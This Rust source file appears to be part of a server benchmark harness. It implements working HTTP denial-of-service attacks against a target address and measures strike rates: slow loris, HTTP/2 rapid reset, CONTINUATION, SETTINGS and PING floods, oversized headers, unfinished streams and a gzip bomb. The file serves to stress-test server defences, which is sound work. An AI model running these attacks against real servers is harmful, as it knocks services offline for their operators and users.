//! What attackers do.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use bench_harness::Failed;
use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::oneshot;
use tokio::time::sleep;

use super::frames::{Frame, Peer, literal, request};
use super::h2load::H2load;
use crate::federated::one_thread;

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    SlowLoris,
    RapidReset,
    Continuations,
    Settings,
    Pings,
    GiantHeaders,
    OpenStreams,
    Bombs,
    H2load,
}

impl Attack {
    pub(super) const ALL: [Self; 9] = [
        Self::SlowLoris,
        Self::RapidReset,
        Self::Continuations,
        Self::Settings,
        Self::Pings,
        Self::GiantHeaders,
        Self::OpenStreams,
        Self::Bombs,
        Self::H2load,
    ];

    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::SlowLoris => "slow loris, 500 connections",
            Self::RapidReset => "rapid reset",
            Self::Continuations => "endless continuation frames",
            Self::Settings => "flood of settings",
            Self::Pings => "flood of pings",
            Self::GiantHeaders => "headers of 100 KiB",
            Self::OpenStreams => "1000 requests without an end",
            Self::Bombs => "compression bombs",
            Self::H2load => "`h2load`, 32 connections of 8 calls",
        }
    }

    /// Attackers at once, each on a connection of its own.
    const fn attackers(self) -> usize {
        match self {
            Self::SlowLoris => 500,
            _ => 8,
        }
    }

    /// Once, on a connection of its own, until the server has had enough or the attack got through.
    async fn strike(self, target: SocketAddr, path: &str) -> io::Result<()> {
        let head =
            format!("POST {path} HTTP/1.1\r\nHost: b\r\nWire-Origin-Domain: a.example.com\r\n");
        match self {
            Self::SlowLoris => {
                let mut socket = TcpStream::connect(target).await?;
                socket.write_all(head.as_bytes()).await?;
                loop {
                    sleep(Duration::from_millis(100)).await;
                    socket.write_all(b"x").await?;
                }
            }
            Self::RapidReset => {
                let mut peer = Peer::connect(target).await?;
                for stream in (1..).step_by(2).take(20_000) {
                    let frames = [Frame::headers(stream, &request(path)), Frame::reset(stream)];
                    if !peer.send(&frames).await {
                        break;
                    }
                }
                peer.closed().await;
            }
            Self::Continuations => {
                let mut peer = Peer::connect(target).await?;
                let filler = literal("x-filler", &"x".repeat(8 * 1024));
                peer.send(&[Frame::headers_begun(1, &request(path))]).await;
                while peer.send(&[Frame::continuation(1, &filler)]).await {}
                peer.closed().await;
            }
            Self::Settings => flood(target, Frame::settings()).await?,
            Self::Pings => flood(target, Frame::ping()).await?,
            Self::GiantHeaders => {
                let giant = format!("{head}X-Giant: {}\r\n\r\n", "x".repeat(100 * 1024));
                answer(target, giant.as_bytes()).await?;
            }
            Self::OpenStreams => {
                let mut peer = Peer::connect(target).await?;
                let streams = (1..).step_by(2).take(1000);
                let opened = streams.map(|stream| Frame::headers(stream, &request(path)));
                peer.send(&opened.collect::<Vec<_>>()).await;
                // They are given up before the server gives them up.
                sleep(Duration::from_millis(100)).await;
            }
            Self::Bombs => {
                let mut bomb = format!(
                    "{head}Connection: close\r\nContent-Type: application/json\r\n\
                     Content-Encoding: gzip\r\nContent-Length: 20\r\n\r\n"
                )
                .into_bytes();
                bomb.extend([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
                bomb.extend([0; 10]);
                answer(target, &bomb).await?;
            }
            Self::H2load => {}
        }
        Ok(())
    }
}

/// Sends a frame until the server ends the connection; its answers are read.
async fn flood(target: SocketAddr, frame: Frame) -> io::Result<()> {
    let mut peer = Peer::connect(target).await?;
    let flood = vec![frame; 1000];
    while peer.send(&flood).await {}
    peer.closed().await;
    Ok(())
}

/// Sends a request and reads until the server ends the connection.
async fn answer(target: SocketAddr, request: &[u8]) -> io::Result<()> {
    let mut socket = TcpStream::connect(target).await?;
    socket.write_all(request).await?;
    socket.read_to_end(&mut Vec::new()).await?;
    Ok(())
}

/// An attack that goes on.
pub(super) enum Attacked {
    ByFrames {
        attackers: JoinHandle<Result<f64, Failed>>,
        stop: oneshot::Sender<()>,
    },
    ByH2load(H2load),
}

impl Attacked {
    /// Begins it. One by h2load ends by itself, somewhat more than `seconds` later.
    pub(super) fn by(
        attack: Attack,
        target: SocketAddr,
        path: &'static str,
        seconds: f64,
    ) -> Result<Self, Failed> {
        if attack == Attack::H2load {
            return Ok(Self::ByH2load(H2load::start(target, path, seconds)?));
        }
        let (stop, stopped) = oneshot::channel();
        // A thread of their own: normal callers do not wait for attackers.
        let attackers = std::thread::spawn(move || {
            one_thread()?.block_on(async {
                let (begun, strikes) = (Instant::now(), Arc::new(AtomicU64::new(0)));
                let attackers = (0..attack.attackers()).map(|_| async {
                    loop {
                        strikes.fetch_add(1, Ordering::Relaxed);
                        if attack.strike(target, path).await.is_err() {
                            // Not even a connection was to be had, perhaps.
                            sleep(Duration::from_millis(1)).await;
                        }
                    }
                });
                tokio::select! {
                    _ = join_all(attackers) => {}
                    _ = stopped => {}
                }
                let strikes = strikes.load(Ordering::Relaxed) as f64;
                Ok(strikes / begun.elapsed().as_secs_f64())
            })
        });
        Ok(Self::ByFrames { attackers, stop })
    }

    /// Ends it. How often the attackers struck, each time on a new connection, or how many requests h2load had answered with success, in a
    /// second.
    pub(super) fn end(self) -> Result<f64, Failed> {
        match self {
            Self::ByFrames { attackers, stop } => {
                drop(stop);
                attackers.join().map_err(|_| "the attackers panicked")?
            }
            Self::ByH2load(h2load) => h2load.end(),
        }
    }
}
